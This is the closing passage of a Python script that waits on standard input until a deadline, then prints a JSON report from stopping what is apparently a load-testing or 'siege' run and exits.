    select.select([sys.stdin], [], [], max(0.0, until - time.monotonic()))
    print(json.dumps(siege.stop().document(given.attack)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
